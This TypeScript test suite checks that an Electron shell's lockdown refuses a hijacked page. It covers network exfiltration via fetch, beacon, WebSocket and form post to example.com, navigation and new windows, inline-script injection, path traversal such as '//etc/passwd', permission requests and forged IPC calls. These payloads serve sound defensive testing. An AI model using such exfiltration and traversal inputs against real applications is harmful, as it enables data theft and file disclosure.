import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, expect, onTestFinished, test } from 'vitest'
import { lockDownContents } from '../../electron/shell/lockdown.ts'
import type { Refusal } from '../../electron/shell/refusals.ts'
import { closeChromium } from '../helpers/electron-standin/index.ts'
import { builtFolder, start, type Started } from './shell-under-test.ts'

// Every test plays a page that has been taken over: script of an attacker running under our own origin.
let started: Started
let page: Page
let before: Partial<Record<Refusal, number>>

beforeAll(async () => {
  started = await start({ built: await builtFolder() })
  page = await started.standin.page()
})
beforeEach(async () => {
  await page.reload()
  before = Object.fromEntries(KINDS.map((kind) => [kind, counted(kind)]))
})
afterEach(() => { expect(started.standin.state.complaints).toEqual([]) })
afterAll(async () => {
  await started.standin.close()
  await closeChromium()
})

const KINDS: readonly Refusal[] = ['network', 'navigation', 'new-window', 'webview', 'permission', 'download', 'ipc-sender']
const counted = (kind: Refusal) => started.shell?.refusals.count(kind) ?? Number.NaN
/** Refusals since the test began. */
const refused = (kind: Refusal) => counted(kind) - (before[kind] ?? 0)
const sentOut = () => started.standin.state.requests.filter((request) => !request.cancelled && !request.url.startsWith('app://'))
const fetched = (address: string) => page.evaluate(async (url) => {
  try {
    const response = await fetch(url)
    return `${response.status} ${(await response.text()).slice(0, 20)}`
  } catch (error) {
    return String(error)
  }
}, address)

test('the page itself runs: a policy too strict for our own scripts and styles would show a blank window', async () => {
  expect(await page.evaluate('window.started')).toBe(true)
  expect(await page.locator('h1').evaluate((node) => getComputedStyle(node).color)).toBe('rgb(31, 58, 95)')
  expect(await page.locator('#styled').evaluate((node) => getComputedStyle(node).color)).toBe('rgb(1, 2, 3)')
})

test('fetch, image, beacon and socket to the network never leave, whichever way they try', async () => {
  expect(await fetched('http://example.com/steal')).toMatch(/Failed to fetch/)
  await page.evaluate(() => {
    navigator.sendBeacon('https://example.com/beacon', 'pay list')
    new Image().src = 'https://example.com/pixel.png'
    const socket = new WebSocket('wss://example.com/socket')
    socket.close()
  })
  await page.waitForTimeout(100)
  expect(sentOut()).toEqual([])
  // The page's own policy stops these before the session's guard is asked.
  expect(started.standin.state.requests.filter(({ url }) => /steal|beacon|pixel/.test(url))).toEqual([])
})

test('when the policy is passed by, the shell still cancels and counts each outside request', async () => {
  // The wire switches the page's policy off: what is left is the session's own guard.
  const wire = await page.context().newCDPSession(page)
  await wire.send('Page.setBypassCSP', { enabled: true })
  await page.reload()
  onTestFinished(async () => { await wire.send('Page.setBypassCSP', { enabled: false }) })
  expect(await fetched('https://example.com/second-line')).toMatch(/Failed to fetch/)
  expect(await fetched('http://127.0.0.1:9/')).toMatch(/Failed to fetch/)
  await page.evaluate(() => new Promise((resolve) => {
    const socket = new WebSocket('wss://example.com/socket')
    socket.addEventListener('close', resolve)
  }))
  expect(refused('network')).toBe(3)
  expect(sentOut()).toEqual([])
})

test('window.open and target=_blank open nothing', async () => {
  await page.evaluate(() => {
    window.open('https://example.com/one')
    const link = Object.assign(document.createElement('a'), { href: 'https://example.com/two', target: '_blank' })
    document.body.append(link)
    link.click()
  })
  await expect.poll(() => refused('new-window')).toBe(2)
  expect(started.standin.state.windows).toHaveLength(1)
  expect(started.standin.state.requests.filter(({ url }) => url === 'https://example.com/one' || url === 'https://example.com/two')).toEqual([])
})

test.each(['https://example.com/', 'app://print/x', 'app://bundle/a.js'])('the window cannot be taken to %s', async (address) => {
  const shown = address.replace(/^app:\/\/(\w+)/, 'https://$1.app.localhost')
  await page.evaluate((url) => { location.href = url }, shown)
  await expect.poll(() => refused('navigation')).toBe(1)
  expect(await page.evaluate('location.href')).toBe('https://bundle.app.localhost/index.html')
})

test('a window that shows anything but our page (a print document) cannot go to our page and gain its rights', () => {
  const { BrowserWindow } = started.standin.electron
  const opened = new BrowserWindow({ show: false, webPreferences: { contextIsolation: true, sandbox: true, webSecurity: true, nodeIntegration: false } })
  if (!started.shell) throw new Error('not started')
  lockDownContents(opened.webContents, started.shell.refusals)
  let stopped = false
  opened.webContents.emit('will-frame-navigate', { url: 'app://bundle/index.html', isMainFrame: true, preventDefault: () => { stopped = true } })
  opened.destroy()
  expect(stopped).toBe(true)
})

test('the page may load itself again: a lock that is too tight would strand the owner', async () => {
  await page.evaluate(() => { location.reload() })
  await page.waitForFunction('window.started')
  expect(refused('navigation')).toBe(0)
})

test('a form cannot post the data away', async () => {
  await page.evaluate(() => {
    const form = Object.assign(document.createElement('form'), { action: 'https://example.com/', method: 'post' })
    document.body.append(form)
    form.submit()
  })
  await page.waitForTimeout(100)
  expect(await page.evaluate('location.host')).toBe('bundle.app.localhost')
  expect(sentOut()).toEqual([])
})

test('a frame of another origin stays empty, and the preview frame (srcdoc) works without scripts of its own', async () => {
  await page.evaluate(() => {
    const foreign = Object.assign(document.createElement('iframe'), { src: 'https://example.com/frame' })
    const preview = Object.assign(document.createElement('iframe'), { srcdoc: '<p id="sheet">考核表</p><script>document.title = "ran"</script>' })
    document.body.append(foreign, preview)
  })
  const preview = await page.waitForSelector('iframe >> nth=1').then((handle) => handle.contentFrame())
  expect(await preview?.locator('#sheet').textContent()).toBe('考核表')
  expect(await preview?.evaluate(() => document.title)).toBe('')
  expect(sentOut()).toEqual([])
})

test('inline script does not run: text that slips through as HTML stays text', async () => {
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.injected = true'
    document.body.append(script)
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.injected = true">')
  })
  await page.waitForTimeout(50)
  expect(await page.evaluate('window.injected')).toBeUndefined()
  await page.evaluate(() => { document.querySelector('script[src]')?.remove() })
  expect(await page.evaluate(() => new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => { resolve(event.violatedDirective) })
    document.body.setAttribute('onclick', '1')
    document.body.click()
  }))).toBe('script-src-attr')
})

test.each([
  '/../../package.json', '/%2e%2e/%2e%2e/package.json', '/..%2f..%2fpackage.json', '/..%5c..%5cpackage.json', '/.../package.json',
  '/a.js%00.html', '/%', '/link.json', '/a.js.map', '/electron/preload.cjs', '//etc/passwd',
])('app://bundle%s is refused', async (pathname) => {
  const answer = started.standin.state.schemes.get('app')
  const response = await answer?.(new Request(`app://bundle${pathname}`))
  expect(response?.status).toBeGreaterThanOrEqual(400)
  expect(await response?.text()).toMatch(/^refused/)
})

test('files are sent with headers that forbid guessing, keeping and framing; only reading is answered', async () => {
  const answer = started.standin.state.schemes.get('app')
  const response = await answer?.(new Request('app://bundle/index.html'))
  expect(Object.fromEntries(response?.headers ?? [])).toMatchObject({
    'x-content-type-options': 'nosniff', 'cache-control': 'no-store', 'content-type': 'text/html; charset=utf-8',
    'content-security-policy': expect.stringContaining("default-src 'none'; script-src 'self';"),
  })
  expect((await answer?.(new Request('app://bundle/index.html', { method: 'POST' })))?.status).toBe(405)
  expect((await answer?.(new Request('app://elsewhere/index.html')))?.status).toBe(404)
})

test('geolocation, camera, notifications and reading the clipboard are denied; copying out is granted', async () => {
  const outcomes = await page.evaluate(async () => ({
    place: await new Promise((resolve) => { navigator.geolocation.getCurrentPosition(() => { resolve('given') }, () => { resolve('denied') }) }),
    camera: await navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'given', (error: DOMException) => error.name),
    notify: await Notification.requestPermission(),
    read: await navigator.clipboard.readText().then(() => 'given', (error: DOMException) => error.name),
    check: (await navigator.permissions.query({ name: 'geolocation' })).state,
    copy: await navigator.clipboard.writeText('得分 92.5').then(() => 'given', (error: DOMException) => error.name),
  }))
  expect(outcomes).toEqual({ place: 'denied', camera: 'NotAllowedError', notify: 'denied', read: 'NotAllowedError', check: 'denied', copy: 'given' })
  expect(refused('permission')).toBe(4)
})

test('another origin is not granted even what our page is', () => {
  const { permissionRequest, permissionCheck } = started.standin.state
  const foreign = { isMainFrame: true, requestingUrl: 'https://example.com/' }
  const given: boolean[] = []
  permissionRequest?.(null, 'fullscreen', (granted) => given.push(granted), foreign)
  permissionRequest?.(null, 'fullscreen', (granted) => given.push(granted), { isMainFrame: false, requestingUrl: 'app://bundle/index.html' })
  permissionRequest?.(null, 'fullscreen', (granted) => given.push(granted), { isMainFrame: true, requestingUrl: 'app://bundle/index.html' })
  expect(given).toEqual([false, false, true])
  expect(permissionCheck?.(null, 'fullscreen', 'https://example.com/', foreign)).toBe(false)
  expect(permissionCheck?.(null, 'fullscreen', 'app://bundle/', { isMainFrame: true, requestingUrl: 'app://bundle/' })).toBe(true)
})

test('a frame inside the page cannot call the house, even with the bare sender in its hands', async () => {
  await page.evaluate(() => { document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<p>frame</p>' })) })
  const frame = await page.waitForSelector('iframe').then((handle) => handle.contentFrame())
  expect(await frame?.evaluate(() => 'hengping' in window)).toBe(false)
  const answer = await frame?.evaluate(() => (globalThis as unknown as { __standinInvoke(channel: string, args: unknown[]): Promise<unknown> }).__standinInvoke('hengping:invoke', ['system.start', null]))
  expect(answer).toEqual({ failure: 'Error: refused' })
  expect(refused('ipc-sender')).toBe(1)
  expect(started.house.calls).toEqual([])
})

test.each([
  ['another origin', { url: 'https://example.com/', origin: 'https://example.com', parent: null }],
  ['the print origin', { url: 'app://print/1', origin: 'app://print', parent: null }],
  ['an origin that only begins like ours', { url: 'app://bundle.example.com/', origin: 'app://bundle.example.com', parent: null }],
  ['a frame inside our own page', { url: 'app://bundle/index.html', origin: 'app://bundle', parent: { url: 'app://bundle/index.html', origin: 'app://bundle', parent: null } }],
  ['a frame that is gone', null],
])('a call from %s is refused', async (_name, senderFrame) => {
  const handler = started.standin.state.handlers.get('hengping:invoke')
  const event = { sender: started.standin.window().webContents, senderFrame }
  expect(() => handler?.(event, 'system.start', null)).toThrow('refused')
  expect(started.house.calls).toEqual([])
})

test('a call from a window that is not ours is refused although its page looks right', () => {
  const handler = started.standin.state.handlers.get('hengping:invoke')
  expect(() => handler?.({ sender: {}, senderFrame: { url: 'app://bundle/', origin: 'app://bundle', parent: null } }, 'system.start', null)).toThrow('refused')
})

test('there is one channel, and a method that is no text is refused', async () => {
  expect([...started.standin.state.handlers.keys()]).toEqual(['hengping:invoke'])
  const outcome = await page.evaluate("window.hengping.invoke({ toString: 1 }, null).then(() => 'answered', (error) => String(error))")
  expect(outcome).toMatch(/refused/)
})

test('the bridge has three members and no way to Node', async () => {
  expect(await page.evaluate("Object.keys(window.hengping)")).toEqual(['host', 'invoke', 'subscribe'])
  expect(await page.evaluate("typeof require + typeof process + typeof module")).toBe('undefinedundefinedundefined')
})

test('a download begun by the page is stopped: files leave only through the save dialog', async () => {
  await page.evaluate(() => {
    const link = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: '工资.csv' })
    document.body.append(link)
    link.click()
  })
  await expect.poll(() => refused('download')).toBe(1)
})

test('webview, spell checker and WebRTC have no way out', () => {
  const { webContents } = started.standin.window()
  let stopped = false
  webContents.emit('will-attach-webview', { preventDefault: () => { stopped = true } }, {}, {})
  expect(stopped).toBe(true)
  expect(webContents.rtcPolicy).toBe('disable_non_proxied_udp')
  expect((started.standin.electron.session.defaultSession as unknown as { spellChecker: boolean }).spellChecker).toBe(false)
  expect(Object.fromEntries(started.standin.state.switches)).toMatchObject({
    'host-resolver-rules': 'MAP * ~NOTFOUND', 'proxy-server': 'socks5://127.0.0.1:9', 'proxy-bypass-list': '<-loopback>', 'disable-background-networking': '',
  })
})
